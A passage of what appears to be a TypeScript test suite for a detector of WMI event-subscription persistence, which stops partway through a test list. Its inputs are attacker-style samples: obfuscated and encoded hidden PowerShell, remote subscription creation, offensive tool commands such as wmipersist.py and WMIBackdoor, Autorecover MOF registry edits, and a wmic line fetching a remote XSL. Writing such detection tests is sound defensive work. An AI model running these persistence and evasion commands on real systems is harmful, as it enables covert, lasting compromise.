import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { AuthoringContext, AuthoringKind, AuthoringReading } from './index.ts'
import { readAuthoring } from './index.ts'

const QUERY = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LocalTime'"
const FILTER = { name: 'F', query: QUERY, queryLanguage: 'WQL', eventNamespace: 'root\\cimv2' }
const CONSUMER = {
  class: 'CommandLineEventConsumer',
  name: 'C',
  properties: { CommandLineTemplate: 'cmd /c calc.exe' },
}
const BINDING = { filter: '__EventFilter.Name="F"', consumer: 'CommandLineEventConsumer.Name="C"' }

function encoded(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64')
}

function one(text: string, kind: AuthoringKind, context?: AuthoringContext): AuthoringReading {
  const readings = readAuthoring(text, kind, context)
  expect(readings).toHaveLength(1)
  const [reading] = readings
  if (reading === undefined) throw new Error('no reading')
  return reading
}

describe('wmic', () => {
  test.each([
    [
      `wmic /namespace:"\\\\root\\subscription" PATH __EventFilter CREATE Name="F", EventNameSpace="root\\cimv2", QueryLanguage="WQL", Query="${QUERY}"`,
      { filter: FILTER },
    ],
    [
      'wmic /namespace:\\\\.\\root\\subscription path CommandLineEventConsumer create Name="C",CommandLineTemplate="cmd /c calc.exe"',
      { consumer: CONSUMER },
    ],
    [
      `"C:\\Windows\\System32\\wbem\\WMIC.exe" /namespace:"\\\\root\\subscription" PATH __FilterToConsumerBinding CREATE Filter='__EventFilter.Name="F"', Consumer='CommandLineEventConsumer.Name="C"'`,
      { binding: BINDING },
    ],
    [
      `cmd.exe /c "wmic /namespace:\\\\root\\subscription path CommandLineEventConsumer create Name='C',CommandLineTemplate='cmd /c calc.exe'"`,
      { consumer: CONSUMER },
    ],
  ])('%s creates', (text, objects) => {
    expect(one(text, 'commandLine')).toMatchObject({
      verb: 'creates',
      tool: 'wmic',
      signal: 'command-creates',
      namespace: 'root\\subscription',
      objects,
    })
  })

  test('quotes inside the class name do not hide it, and are told', () => {
    const text = 'wmic /namespace:\\\\root\\subscription path __Event""Filter create Name="F"'
    expect(one(text, 'commandLine')).toMatchObject({
      verb: 'creates',
      classes: ['__EventFilter'],
      splitNames: true,
    })
  })

  test('carets do not hide the verb', () => {
    const text = 'cmd /c w^mic /namespace:\\\\root\\subscription p^ath __Eve^ntFilter cr^eate Name="F"'
    expect(one(text, 'commandLine')).toMatchObject({
      verb: 'creates',
      classes: ['__EventFilter'],
      splitNames: true,
    })
  })

  test('a class in a variable is told by what only subscriptions have', () => {
    const text =
      'wmic /namespace:\\\\root\\subscription path %c% create Name="C",CommandLineTemplate="cmd /c calc.exe"'
    expect(one(text, 'commandLine')).toMatchObject({
      verb: 'creates',
      splitNames: true,
      objects: { consumer: CONSUMER },
    })
  })

  test('another machine is named', () => {
    expect(
      one(
        'wmic /node:"SRV7" /user:x /namespace:\\\\root\\subscription path __EventFilter create Name="F"',
        'commandLine',
      ).remoteHost,
    ).toBe('SRV7')
    expect(
      one(
        'wmic /node:"A","B" /namespace:\\\\root\\subscription path __EventFilter create Name="F"',
        'commandLine',
      ),
    ).toMatchObject({ remoteHost: 'A', classes: ['__EventFilter'] })
    const wrapped =
      'wmic /node:SRV7 process call create "wmic /namespace:\\\\root\\subscription path __EventFilter create Name=F"'
    expect(one(wrapped, 'commandLine')).toMatchObject({
      verb: 'creates',
      remoteHost: 'SRV7',
      objects: { filter: { name: 'F' } },
    })
  })

  test('the verb decides', () => {
    const line = (rest: string) =>
      one(`wmic /namespace:\\\\root\\subscription path CommandLineEventConsumer ${rest}`, 'commandLine')
    expect(line('WHERE Name="C" DELETE')).toMatchObject({
      verb: 'removes',
      signal: 'removal',
      objects: { consumer: { name: 'C' } },
    })
    expect(line('get Name,CommandLineTemplate')).toMatchObject({ verb: 'reads', signal: 'enumeration' })
    expect(line('')).toMatchObject({ verb: 'reads' })
    expect(line('where Name="create" get /value')).toMatchObject({ verb: 'reads' })
    expect(line('where Name="C" set CommandLineTemplate="evil.exe"')).toMatchObject({ verb: 'modifies' })
    expect(line('where "Name=\'C\'" delete')).toMatchObject({
      verb: 'removes',
      objects: { consumer: { name: 'C' } },
    })
  })

  test('variables that the command line sets itself are put in their places', () => {
    const tool =
      'set x=wm&& set y=ic&& cmd /c %x%%y% /namespace:\\\\root\\subscription path __EventFilter create Name="F"'
    expect(one(tool, 'commandLine')).toMatchObject({
      verb: 'creates',
      splitNames: true,
      objects: { filter: { name: 'F' } },
    })
    const name =
      'cmd /v /c "set a=__EventFilter&& wmic /namespace:\\\\root\\subscription path !a! create Name="F""'
    expect(one(name, 'commandLine')).toMatchObject({
      verb: 'creates',
      classes: ['__EventFilter'],
      splitNames: true,
    })
  })

  test('escaped quotes and object paths are read', () => {
    const bind =
      'wmic /namespace:\\\\root\\subscription path __FilterToConsumerBinding create Filter="__EventFilter.Name=\\"F\\"",Consumer="CommandLineEventConsumer.Name=\\"C\\""'
    expect(one(bind, 'commandLine').objects).toEqual({ binding: BINDING })
    const path = 'wmic /namespace:\\\\root\\subscription path __EventFilter.Name="F" delete'
    expect(one(path, 'commandLine')).toMatchObject({
      verb: 'removes',
      splitNames: false,
      objects: { filter: { name: 'F' } },
    })
  })

  test('a derived consumer is told by its properties', () => {
    const text =
      'wmic /namespace:\\\\root\\subscription path My_Thing create Name="C",CommandLineTemplate="x.exe"'
    expect(one(text, 'commandLine').objects?.consumer).toMatchObject({ class: 'My_Thing', name: 'C' })
  })

  test('a renamed wmic is known by its original name', () => {
    const text = 'C:\\Temp\\svc.exe /namespace:\\\\root\\subscription path __EventFilter create Name="F"'
    expect(
      one(text, 'commandLine', { image: 'C:\\Temp\\svc.exe', originalFileName: 'wmic.exe' }),
    ).toMatchObject({ verb: 'creates', renamed: true })
  })
})

describe('PowerShell', () => {
  const INLINE = `
    $f = Set-WmiInstance -Class __EventFilter -Namespace "root\\subscription" -Arguments @{Name='F'; EventNamespace='root\\cimv2'; QueryLanguage="WQL"; Query="${QUERY}"}
    $c = Set-WmiInstance -Class CommandLineEventConsumer -Namespace "root\\subscription" -Arguments @{Name='C';CommandLineTemplate='cmd /c calc.exe'}
    Set-WmiInstance -Class __FilterToConsumerBinding -Namespace "root\\subscription" -Arguments @{Filter=$f;Consumer=$c} | Out-Null`
  const WHOLE = {
    verb: 'creates',
    tool: 'powershell',
    namespace: 'root\\subscription',
    objects: { filter: FILTER, consumer: CONSUMER, binding: BINDING },
  }

  test('Set-WmiInstance with tables is one subscription', () => {
    expect(one(INLINE, 'powershell')).toMatchObject({ ...WHOLE, signal: 'script-creates', splitNames: false })
    expect(
      one(`powershell.exe -NoP -W Hidden -Command "${INLINE.replaceAll('"', '\\"')}"`, 'commandLine'),
    ).toMatchObject({ ...WHOLE, signal: 'command-creates' })
  })

  test('variables, splatting and CIM cmdlets lead to the same', () => {
    const text = `
      $name = 'F'; $q = "SELECT * FROM __InstanceModificationEvent " + 'WITHIN 60 ' + "WHERE TargetInstance ISA 'Win32_LocalTime'"
      $Filter = @{ Name = $name; EventNamespace = 'root/cimv2'; QueryLanguage = 'WQL'; Query = $q }
      $p = @{ Namespace = 'root/subscription'; ClassName = '__EventFilter'; Property = $Filter }
      $FilterObj = New-CimInstance @p
      $cons = New-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Property @{ Name = "C"; CommandLineTemplate = ("cmd /c {0}.exe" -f 'calc') }
      New-CimInstance -Namespace root/subscription -ClassName __FilterToConsumerBinding -Property @{ Filter = [Ref]$FilterObj; Consumer = [Ref]$cons }`
    expect(one(text, 'powershell')).toMatchObject(WHOLE)
  })

  test('class accelerators and .NET classes are followed to Put()', () => {
    const text = `
      $filter = ([wmiclass]"\\\\.\\root\\subscription:__EventFilter").CreateInstance()
      $filter.QueryLanguage = "WQL"
      $filter.Query = "${QUERY}"
      $filter.Name = "F"
      $filter.EventNamespace = 'root\\cimv2'
      $result = $filter.Put()
      $path = $result.Path
      $cc = New-Object System.Management.ManagementClass("root\\subscription", "CommandLineEventConsumer", $null)
      $ci = $cc.CreateInstance()
      $ci["Name"] = "C"
      $ci.Properties["CommandLineTemplate"].Value = "cmd /c calc.exe"
      $ci.Put()
      $b = ([wmiclass]'\\\\.\\root\\subscription:__FilterToConsumerBinding').CreateInstance()
      $b.Filter = $filter; $b.Consumer = $ci
      [void]$b.Put()`
    expect(one(text, 'powershell')).toMatchObject(WHOLE)
  })

  test('encoded commands are read in every abbreviation', () => {
    for (const option of ['-e', '-ec', '-enc', '-EncodedCommand', '/enc', '-eNcO']) {
      const reading = one(`powershell -nop -w hidden ${option} ${encoded(INLINE)}`, 'commandLine')
      expect(reading).toMatchObject({ ...WHOLE, signal: 'script-creates' })
      expect(reading.decoded?.[0]).toContain('Set-WmiInstance')
    }
  })

  test.each([
    `& ('Set-Wmi'+'Instance') -Namespace root\\subscription -Class ('__Event'+'Filter') -Arguments @{Name='F'}`,
    `S\`et-WmiInst\`ance -Namespace root\\subscription -Class __EventF\`ilter -Arguments @{Name='F'}`,
    `$k = -join ('_','_','Event','Filter'); swmi -n root\\subscription -cl $k -arg @{Name='F'}`,
    `& (gcm Set-Wmi*) -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='F'}`,
    `iex ("Set-WmiInstance -Namespace root\\subscription -Class __Event" + "Filter -Arguments @{Name='F'}")`,
    `$c = "{1}{0}" -f 'Filter','__Event'; Set-WmiInstance -Namespace root\\subscription -Class $c -Arguments @{Name='F'}`,
    `Set-WmiInstance -Namespace root\\subscription -Class ([string][char]95 + '_EventFilter') -Arguments @{Name='F'}`,
    `Set-WmiInstance -Namespace root\\subscription -Class '__EvXXentFilter'.Replace('XX','') -Arguments @{Name='F'}`,
  ])('split names are put together: %s', (text) => {
    expect(one(text, 'powershell')).toMatchObject({
      verb: 'creates',
      splitNames: true,
      classes: ['__EventFilter'],
      objects: { filter: { name: 'F' } },
    })
  })

  test('remote machines are named', () => {
    for (const text of [
      "Set-WmiInstance -ComputerName SRV7 -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='F'}",
      "$s = New-CimSession -ComputerName SRV7; New-CimInstance -CimSession $s -Namespace root/subscription -ClassName __EventFilter -Property @{Name='F'}",
      "Invoke-Command -ComputerName SRV7 -ScriptBlock { Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='F'} }",
      "$c = [wmiclass]'\\\\SRV7\\root\\subscription:__EventFilter'; $i = $c.CreateInstance(); $i.Name = 'F'; $i.Put()",
    ])
      expect(one(text, 'powershell')).toMatchObject({
        verb: 'creates',
        remoteHost: 'SRV7',
        namespace: 'root\\subscription',
        objects: { filter: { name: 'F' } },
      })
  })

  test.each([
    'Get-WmiObject -Namespace root\\subscription -Class __EventFilter -Filter "Name=\'F\'" | Remove-WmiObject',
    "Get-CimInstance -Namespace root/subscription -ClassName __EventFilter | Where-Object { $_.Name -eq 'F' } | Remove-CimInstance -Verbose",
    'gwmi __EventFilter -Namespace root\\subscription -Filter "Name=\'F\'" | % { $_.Delete() }',
    '(Get-WmiObject -Query "SELECT * FROM __EventFilter WHERE Name=\'F\'" -Namespace root\\subscription).Delete()',
    'foreach ($x in Get-WmiObject -Namespace root\\subscription -Class __EventFilter -Filter "Name=\'F\'") { $x.Delete() }',
    '$x = Get-WmiObject -Namespace root\\subscription -Class __EventFilter -Filter "Name=\'F\'"\n$x.Delete()',
    '([wmi]"\\\\.\\root\\subscription:__EventFilter.Name=\'F\'").Delete()',
    'Remove-WmiObject -Path "\\\\.\\root\\subscription:__EventFilter.Name=\'F\'"',
  ])('removal is no attempt: %s', (text) => {
    expect(one(text, 'powershell')).toMatchObject({
      verb: 'removes',
      signal: 'removal',
      objects: { filter: { name: 'F' } },
    })
  })

  test.each([
    'Get-WmiObject -Namespace root\\subscription -Class __FilterToConsumerBinding',
    'Get-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer | Select Name, CommandLineTemplate | Format-List',
    'powershell -c "gwmi -n root\\subscription __EventFilter"',
    '([wmiclass]"\\\\.\\root\\subscription:__EventFilter").GetInstances()',
    '$all = Get-WmiObject -Namespace root\\subscription -List | ? { $_.Name -like "*EventConsumer" }; Get-CimInstance -Query "SELECT * FROM __EventFilter" -Namespace root/subscription',
  ])('enumeration is no attempt: %s', (text) => {
    const readings = readAuthoring(text, text.startsWith('powershell') ? 'commandLine' : 'powershell')
    expect(readings.length).toBeGreaterThan(0)
    for (const reading of readings) expect(reading).toMatchObject({ verb: 'reads', signal: 'enumeration' })
  })

  test('a fetched object that is changed is modified', () => {
    const text =
      "$f = Get-WmiObject -Namespace root\\subscription -Class CommandLineEventConsumer -Filter \"Name='C'\"\n$f.CommandLineTemplate = 'evil.exe'\n$f.Put()"
    expect(one(text, 'powershell')).toMatchObject({
      verb: 'modifies',
      objects: { consumer: { name: 'C', properties: { CommandLineTemplate: 'evil.exe' } } },
    })
    expect(
      one(
        "Get-CimInstance -Namespace root/subscription CommandLineEventConsumer | Set-CimInstance -Property @{CommandLineTemplate='evil.exe'}",
        'powershell',
      ).verb,
    ).toBe('modifies')
  })

  test('what only defines functions does not perform', () => {
    const body = "Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='F'}"
    expect(one(`function Install-It { param($Name) ${body} }`, 'powershell')).toMatchObject({
      verb: 'creates',
      onlyDefines: true,
    })
    expect(one(`function Install-It { ${body} }\nInstall-It`, 'powershell').onlyDefines).toBeUndefined()
  })

  test('a function of the text is followed into with the arguments of its call', () => {
    const text = `
      function Add-Thing {
        param([Parameter(Mandatory=$true)][string]$Name, $Command = 'cmd /c calc.exe', [string]$Cn = "localhost")
        $f = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name="F"; EventNamespace='root\\cimv2'; QueryLanguage='WQL'; Query="${QUERY}"}
        $c = Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{Name=$Name; CommandLineTemplate=$Command}
        Set-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$f; Consumer=$c}
      }
      Add-Thing -Name C`
    expect(one(text, 'powershell')).toMatchObject(WHOLE)
    expect(one(text.replace('-Name C', "'C' 'cmd /c calc.exe'"), 'powershell')).toMatchObject(WHOLE)
    const returning = `function Get-Name($x) { return "$x" }\nSet-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name=(Get-Name F)}`
    expect(one(returning, 'powershell').objects).toEqual({ filter: { name: 'F' } })
  })

  test('a machine that is not known is not named, and a switch takes no value', () => {
    const text =
      '$c = [wmiclass]"\\\\$Computer\\root\\subscription:__EventFilter"; $i = $c.CreateInstance(); $i.Name = "F"; $i.Put()'
    const reading = one(text, 'powershell')
    expect(reading).toMatchObject({
      verb: 'creates',
      namespace: 'root\\subscription',
      objects: { filter: { name: 'F' } },
    })
    expect(reading.remoteHost).toBeUndefined()
    const listed =
      "$c = gwmi -List __EventFilter -Namespace root\\subscription; $i = $c.CreateInstance(); $i.Name = 'F'; $i.Put()"
    expect(one(listed, 'powershell')).toMatchObject({ verb: 'creates', objects: { filter: { name: 'F' } } })
  })

  test('a name that depends on a condition or a parameter is not guessed', () => {
    const text =
      "if ($a) { $n = 'A' } else { $n = 'B' }\nSet-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name=$n; Query=\"select * from $x\"}"
    expect(one(text, 'powershell').objects).toEqual({ filter: {} })
  })

  test('a timer and its filter are one', () => {
    const text = `
      Set-WmiInstance -Class __IntervalTimerInstruction -Namespace root\\cimv2 -Arguments @{TimerId='T'; IntervalBetweenEvents=600000; SkipIfPassed=$false}
      $f = Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments @{Name='F'; Query="SELECT * FROM __TimerEvent WHERE TimerID = 'T'"}`
    expect(
      readAuthoring(text, 'powershell').find(({ objects }) => objects?.filter !== undefined)?.objects?.timer,
    ).toEqual({
      class: '__IntervalTimerInstruction',
      timerId: 'T',
      intervalMilliseconds: 600_000,
    })
  })

  test('a rehearsal is no attempt, and a class given as an object is no enumeration', () => {
    const make = "New-CimInstance -Namespace root/subscription -ClassName __EventFilter -Property @{Name='F'}"
    expect(one(`${make} -WhatIf`, 'powershell').verb).toBe('mentions')
    const given =
      "New-CimInstance -CimClass (Get-CimClass -Namespace root/subscription -ClassName __EventFilter) -Property @{Name='F'}"
    expect(one(given, 'powershell')).toMatchObject({
      verb: 'creates',
      namespace: 'root\\subscription',
      objects: { filter: { name: 'F' } },
    })
  })

  test('a script inside the quotes of another shell is unquoted', () => {
    const text = `cmd.exe /c "powershell -nop -c \\"Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='x'}\\""`
    expect(one(text, 'commandLine')).toMatchObject({ verb: 'creates', objects: { filter: { name: 'x' } } })
  })

  test('public programs are known by their arguments', () => {
    expect(
      one('wmipersist.py corp/admin:pw@10.0.0.1 install -name ASEC -vbs x.vbs -timer 1000', 'commandLine'),
    ).toMatchObject({
      verb: 'creates',
      remoteHost: '10.0.0.1',
      objects: {
        filter: { name: 'EF_ASEC' },
        consumer: { class: 'ActiveScriptEventConsumer', name: 'ASEC' },
      },
    })
    expect(
      one('SharpStay.exe action=WMIEventSub command="C:\\x.exe" eventname=E attime=startup', 'commandLine')
        .verb,
    ).toBe('creates')
  })

  test('public tools are known by their commands', () => {
    expect(
      one(
        'Register-MaliciousWmiEvent -EventName E -PermanentCommand "cmd.exe /c x" -Trigger Startup',
        'powershell',
      ),
    ).toMatchObject({
      verb: 'creates',
      objects: {
        filter: { name: 'E' },
        consumer: {
          class: 'CommandLineEventConsumer',
          name: 'E',
          properties: { CommandLineTemplate: 'cmd.exe /c x' },
        },
      },
    })
    const backdoor =
      'powershell -Exec Bypass ". C:\\TMP\\WMIBackdoor.ps1;$T=New-WMIBackdoorTrigger -ProcessName \'procexp64.exe\';$A=New-WMIBackdoorAction -KillProcess; $R=Register-WMIBackdoor -Trigger $T -Action $A"'
    expect(one(backdoor, 'commandLine')).toMatchObject({
      verb: 'creates',
      objects: { filter: { name: 'ProcessStartTrigger' }, consumer: { name: 'KillProcess' } },
    })
    expect(
      readAuthoring('Register-MaliciousWmiEvent -EventName E -LocalScriptBlock {calc}', 'powershell').filter(
        ({ verb }) => verb === 'creates',
      ),
    ).toEqual([])
    expect(one('$e = New-ElevatedPersistenceOption -PermanentWMI -Daily -At 3PM', 'powershell').verb).toBe(
      'creates',
    )
    expect(
      readAuthoring('$e = New-ElevatedPersistenceOption -ScheduledTask -Daily -At 3PM', 'powershell'),
    ).toEqual([])
  })
})

describe('4103 and 800', () => {
  const invocation = (name: string, parameters: Record<string, string>) =>
    [
      `CommandInvocation(${name}): "${name}"`,
      ...Object.entries(parameters).map(
        ([key, value]) => `ParameterBinding(${name}): name="${key}"; value="${value}"`,
      ),
      '',
    ].join('\r\n')

  test('evaluated parameters tell class and namespace; what is printed tells the names', () => {
    const text =
      invocation('Set-WmiInstance', {
        Namespace: 'root/subscription',
        Class: '__FilterToConsumerBinding',
        Arguments: 'System.Collections.Hashtable',
      }) +
      invocation('Out-Null', {
        InputObject:
          '__FilterToConsumerBinding.Consumer="CommandLineEventConsumer.Name=\\"C\\"",Filter="__EventFilter.Name=\\"F\\""',
      })
    expect(one(text, 'pipeline')).toMatchObject({
      verb: 'creates',
      signal: 'script-creates',
      namespace: 'root\\subscription',
      objects: { binding: BINDING },
    })
  })

  test('reading and removing are told apart', () => {
    expect(
      one(
        invocation('Get-WmiObject', { Class: '__EventFilter', Namespace: 'root\\subscription' }),
        'pipeline',
      ).verb,
    ).toBe('reads')
    expect(
      one(
        invocation('Remove-WmiObject', {
          InputObject: '\\\\FS01\\root\\subscription:__EventFilter.Name="F"',
        }),
        'pipeline',
      ),
    ).toMatchObject({ verb: 'removes', objects: { filter: { name: 'F' } } })
    expect(readAuthoring(invocation('Get-WmiObject', { Class: 'Win32_Process' }), 'pipeline')).toEqual([])
  })

  test('a value that imitates a line of its own only ends its value', () => {
    const text = invocation('Write-Output', {
      InputObject: 'x" CommandInvocation(Set-WmiInstance): __EventFilter',
    })
    expect(readAuthoring(text, 'pipeline').map(({ verb }) => verb)).toEqual(['mentions'])
  })
})

describe('VBScript and JScript', () => {
  test('VBScript with a moniker', () => {
    const text = `
      ' __EventFilter is made below
      Const sub = "root\\subscription"
      strComputer = "."
      Set svc = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\" & strComputer & "\\root\\subscription")
      Set f = svc.Get("__EventFilter").SpawnInstance_
      f.Name = "F" : f.QueryLanguage = "WQL"
      f.EventNamespace = "root\\cimv2"
      f.Query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 " & _
        "WHERE TargetInstance ISA 'Win32_LocalTime'"
      Set fp = f.Put_
      Set c = svc.Get("CommandLine" & "EventConsumer").SpawnInstance_()
      c.Name = Chr(67)
      c.CommandLineTemplate = "cmd /c calc.exe"
      c.Put_
      Set b = svc.Get("__FilterToConsumerBinding").SpawnInstance_
      b.Filter = fp.Path
      b.Consumer = c.Path_.RelPath
      b.Put_`
    expect(one(text, 'script')).toMatchObject({
      verb: 'creates',
      tool: 'vbscript',
      namespace: 'root\\subscription',
      splitNames: true,
      objects: { filter: FILTER, consumer: CONSUMER, binding: BINDING },
    })
  })

  test('VBScript with a With block in a Sub that is called', () => {
    const text =
      'Sub Go\nSet f = GetObject("winmgmts:root/subscription").Get("__EventFilter").SpawnInstance_\nWith f\n.Name = "F"\nEnd With\nf.Put_\nEnd Sub\nGo'
    const reading = one(text, 'script')
    expect(reading).toMatchObject({
      verb: 'creates',
      namespace: 'root\\subscription',
      objects: { filter: { name: 'F' } },
    })
    expect(reading.onlyDefines).toBeUndefined()
    expect(one(text.replace(/\nGo$/, ''), 'script').onlyDefines).toBe(true)
  })

  test('JScript with a locator on another machine', () => {
    const text = `
      var loc = new ActiveXObject("WbemScripting.SWbemLocator");
      var svc = loc.ConnectServer("SRV7", "root\\\\subscription"); // __EventConsumer
      var c = svc.Get('ActiveScript' + 'EventConsumer').SpawnInstance_();
      c.Name = "C"; c.ScriptingEngine = "JScript";
      c.ScriptText = "new ActiveXObject('WScript.Shell').Run('calc')";
      c.Put_();`
    expect(one(text, 'script')).toMatchObject({
      verb: 'creates',
      tool: 'jscript',
      remoteHost: 'SRV7',
      namespace: 'root\\subscription',
      objects: {
        consumer: {
          class: 'ActiveScriptEventConsumer',
          name: 'C',
          properties: { ScriptText: "new ActiveXObject('WScript.Shell').Run('calc')" },
        },
      },
    })
  })

  test('removing and listing are no attempts', () => {
    const head = 'Set svc = GetObject("winmgmts:\\\\.\\root\\subscription")\n'
    expect(
      one(
        `${head}For Each x In svc.ExecQuery("SELECT * FROM __EventFilter WHERE Name='F'")\nx.Delete_\nNext`,
        'script',
      ),
    ).toMatchObject({ verb: 'removes', objects: { filter: { name: 'F' } } })
    expect(
      one(`${head}For Each x In svc.InstancesOf("__EventFilter")\nWScript.Echo x.Name\nNext`, 'script').verb,
    ).toBe('reads')
    expect(one(`${head}svc.Delete "__EventFilter.Name='F'"`, 'script').verb).toBe('removes')
  })

  test('mshta with inline VBScript', () => {
    const text =
      'mshta vbscript:Execute("Set f=GetObject(""winmgmts:\\\\.\\root\\subscription:__EventFilter"").SpawnInstance_:f.Name=""F"":f.Put_:close")'
    expect(one(text, 'commandLine').verb).toBe('creates')
  })
})

describe('mofcomp, winmgmt, registry', () => {
  test.each<[string, Partial<AuthoringReading>, AuthoringContext?]>([
    ['mofcomp.exe C:\\Users\\Public\\x.mof', { mofPath: 'C:\\Users\\Public\\x.mof', signal: 'mofcomp' }],
    [
      'mofcomp -N:\\\\.\\root\\subscription "C:\\Temp\\a b.txt"',
      { mofPath: 'C:\\Temp\\a b.txt', namespace: 'root\\subscription' },
    ],
    [
      'mofcomp -N:\\\\SRV7\\root\\subscription -U:admin -P:x evil.dat',
      { remoteHost: 'SRV7', namespace: 'root\\subscription', mofPath: 'evil.dat' },
    ],
    [
      'C:\\Windows\\System32\\wbem\\mofcomp.exe -autorecover x.mof',
      { autorecover: true, signal: 'autorecover' },
    ],
    ['cmd.exe /c mofcomp x.mof & del x.mof', { mofPath: 'x.mof' }],
    [
      'C:\\Temp\\m.exe x.tmp',
      { mofPath: 'x.tmp', renamed: true },
      { image: 'C:\\Temp\\m.exe', originalFileName: 'mofcomp.exe' },
    ],
    ['powershell -c "mofcomp.exe .\\x.mof"', { mofPath: '.\\x.mof' }],
    ['schtasks /create /tn x /tr "mofcomp C:\\a.mof" /sc onstart', { mofPath: 'C:\\a.mof' }],
    [
      'schtasks /create /tr "C:\\Windows\\System32\\wbem\\mofcomp.exe C:\\a.mof" /sc onstart',
      { mofPath: 'C:\\a.mof' },
    ],
    ['cmd /c "mofcomp -N:root\\x "C:\\x y\\a.mof" > nul"', { mofPath: 'C:\\x y\\a.mof' }],
    ['cmd /c "mofcomp "C:\\x y\\a.mof""', { mofPath: 'C:\\x y\\a.mof' }],
    ['mofcomp a.mof >nul 2> err.txt', { mofPath: 'a.mof' }],
    ['powershell -c "Start-Process mofcomp.exe -ArgumentList \'.\\x.mof\'"', { mofPath: '.\\x.mof' }],
  ])('%s', (text, expected, context) => {
    expect(one(text, 'commandLine', context)).toMatchObject({ verb: 'creates', tool: 'mofcomp', ...expected })
  })

  test('MOF text that a script writes and compiles is read', () => {
    const text = `
      $path = "$env:TEMP\\x.mof"; $file = 'C:\\Temp\\y.mof'
      @'
#pragma namespace("\\\\\\\\.\\\\root\\\\subscription")
instance of __EventFilter as $F { Name = "F"; Query = "select * from X"; };
instance of CommandLineEventConsumer as $C { Name = "C"; CommandLineTemplate = "x.exe"; };
instance of __FilterToConsumerBinding { Filter = $F; Consumer = $C; };
'@ | Set-Content $file
      mofcomp.exe $file`
    const readings = readAuthoring(text, 'powershell')
    expect(readings.map(({ mofPath }) => mofPath)).toContain('C:\\Temp\\y.mof')
    expect(readings.find(({ objects }) => objects !== undefined)?.objects).toMatchObject({
      filter: { name: 'F', query: 'select * from X' },
      consumer: { name: 'C' },
      binding: BINDING,
    })
  })

  test('mofcomp without a file or only checking does nothing', () => {
    expect(readAuthoring('mofcomp -check x.mof', 'commandLine')).toEqual([])
    expect(readAuthoring('mofcomp /?', 'commandLine')).toEqual([])
  })

  test('the repository reset and the auto-recover list', () => {
    expect(one('winmgmt /resetrepository', 'commandLine')).toMatchObject({
      verb: 'modifies',
      tool: 'winmgmt',
      signal: 'repository-reset',
    })
    expect(readAuthoring('winmgmt /verifyrepository', 'commandLine')).toEqual([])
    const key = 'HKLM\\SOFTWARE\\Microsoft\\WBEM\\CIMOM'
    expect(
      one(`reg add "${key}" /v "Autorecover MOFs" /t REG_MULTI_SZ /d "C:\\Temp\\x.mof" /f`, 'commandLine'),
    ).toMatchObject({ verb: 'creates', signal: 'autorecover', mofPath: 'C:\\Temp\\x.mof' })
    expect(one(`reg query ${key} /v "Autorecover MOFs"`, 'commandLine').verb).toBe('reads')
    expect(
      one(
        `Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\WBEM\\CIMOM' -Name 'Autorecover MOFs' -Value 'C:\\Temp\\x.mof'`,
        'powershell',
      ),
    ).toMatchObject({ verb: 'creates', signal: 'autorecover', mofPath: 'C:\\Temp\\x.mof' })
    expect(readAuthoring(`reg add ${key} /v Logging /d 2`, 'commandLine')).toEqual([])
  })

  test('the WMI tester is opened', () => {
    expect(one('"C:\\Windows\\System32\\wbem\\wbemtest.exe"', 'commandLine')).toMatchObject({
      tool: 'wbemtest',
      verb: 'reads',
    })
  })
})

describe('what is not related', () => {
  test.each<[string, AuthoringKind]>([
    ['wmic process call create "cmd.exe /c whoami"', 'commandLine'],
    ['wmic /node:10.0.0.5 process call create "powershell -enc AAAA"', 'commandLine'],
    ['wmic  process list /format:"https://a.example/x.xsl"', 'commandLine'],
    ['wmic path win32_process get name', 'commandLine'],
    ['wmic /namespace:\\\\root\\wmi path MSAcpi get', 'commandLine'],
    ['C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 'commandLine'],
    ['cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1556 2>&1', 'commandLine'],
    ['C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding', 'commandLine'],
    [
      'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v wmipersist /d calc.exe',
      'commandLine',
    ],
    ['Get-WmiObject Win32_OperatingSystem', 'powershell'],
    [
      'Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList "cmd /c calc" -ComputerName SRV7',
      'powershell',
    ],
    [
      'Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine="calc"}',
      'powershell',
    ],
    ['Register-WmiEvent -Query "SELECT * FROM Win32_ProcessStartTrace" -Action { \'x\' }', 'powershell'],
    [
      'New-CimInstance -ClassName Win32_Environment -Property @{Name="a";VariableValue="b";UserName="c"}',
      'powershell',
    ],
    ['Get-EventSubscriber; Unregister-Event', 'powershell'],
    ['Set svc = GetObject("winmgmts:\\\\.\\root\\cimv2")\nsvc.Get("Win32_Process").Create "calc"', 'script'],
  ])('%s', (text, kind) => expect(readAuthoring(text, kind)).toEqual([]))

  test.each<[string, AuthoringKind]>([
    ['findstr /s /i "wmic /namespace:\\\\root\\subscription path __EventFilter create" *.txt', 'commandLine'],
    ['cmd /c echo Set-WmiInstance -Class __EventFilter -Namespace root\\subscription', 'commandLine'],
    ['notepad.exe C:\\rules\\__EventFilter.yml', 'commandLine'],
    ['cmd.exe /c dir /s & type a.txt | findstr "wmic path __EventFilter create"', 'commandLine'],
    [
      'powershell -c "Get-Content hunt.log | Select-String \'wmic path __EventFilter create\'"',
      'commandLine',
    ],
